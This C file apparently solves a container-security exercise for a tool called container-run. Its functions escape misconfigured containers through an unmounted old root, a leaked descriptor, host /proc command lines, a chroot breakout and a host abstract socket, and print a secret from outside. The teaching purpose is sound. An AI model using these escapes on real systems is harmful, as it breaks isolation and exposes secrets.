/*
 * escape PREY FILE SOCKET: runs in a container that has one mistake, and brings a secret out of it.
 *
 * Shows:   what each wall of container-run is for, by one container that lacks it.
 * Prints:  the secret. It is in FILE, which is outside; a process outside has it on its command line, too,
 *          and tells it to whoever connects to the abstract socket SOCKET.
 * Write:   five functions of one to ten lines. Each has another way out, and one is enough for it.
 * Try:     make break23
 * Pages:   openat(2), proc(5), chroot(2), unix(7), path_resolution(7)
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <err.h>
#include <fcntl.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

/* Prints what can be read from a descriptor. */
static void print(int fd)
{
    char text[4096];
    ssize_t length;

    if (fd == -1)
        err(1, "that is no way out");
    while ((length = read(fd, text, sizeof text)) > 0)
        fwrite(text, 1, (size_t)length, stdout);
}

/* The old root has not been unmounted. It lies over the new one, at /. Which way leads over a mount point? */
static void old_root(const char *file)
{
    char path[4096];

    snprintf(path, sizeof path, "/..%s", file);
    print(open(path, O_RDONLY));
}

/* Descriptor 9 is a folder of the machine that somebody has forgotten to close. */
static void descriptor(const char *file)
{
    print(openat(9, file + 1, O_RDONLY));
}

/* /proc is the machine's, and shows all processes. Who has the secret on its command line? */
static void proc(const char *unused)
{
    char path[300];
    struct dirent *entry;
    DIR *entries = opendir("/proc");

    (void)unused;
    while (entries && (entry = readdir(entries)) != NULL) {
        snprintf(path, sizeof path, "/proc/%s/cmdline", entry->d_name);
        int fd = open(path, O_RDONLY);
        if (fd != -1)
            print(fd);
    }
}

/* chroot() only, and CAP_SYS_CHROOT is left. A working directory may lie above the root: who may call chroot() can
   bring that about. */
static void jail(const char *file)
{
    mkdir("/in", 0700);
    if (chroot("/in") == -1)
        err(1, "chroot");
    for (int i = 0; i < 100; i++)
        if (chdir("..") == -1)
            err(1, "chdir");
    if (chroot(".") == -1)
        err(1, "chroot");
    print(open(file, O_RDONLY));
}

/* The network is the machine's, and so are its abstract sockets. */
static void network(const char *name)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);

    snprintf(address.sun_path + 1, sizeof address.sun_path - 1, "%s", name);
    if (connect(fd, (struct sockaddr *)&address,
                (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name))) ==
        -1)
        err(1, "connect");
    print(fd);
}

int main(int argc, char *argv[])
{
    static const struct {
        const char *prey;
        void (*escape)(const char *);
    } ways[] = {{"old-root", old_root},
                {"descriptor", descriptor},
                {"proc", proc},
                {"jail", jail}};

    if (argc != 4)
        errx(2, "usage: escape PREY FILE SOCKET");
    for (size_t i = 0; i < sizeof ways / sizeof ways[0]; i++)
        if (strcmp(argv[1], ways[i].prey) == 0)
            ways[i].escape(argv[2]);
    if (strcmp(argv[1], "network") == 0)
        network(argv[3]);
    return 0;
}
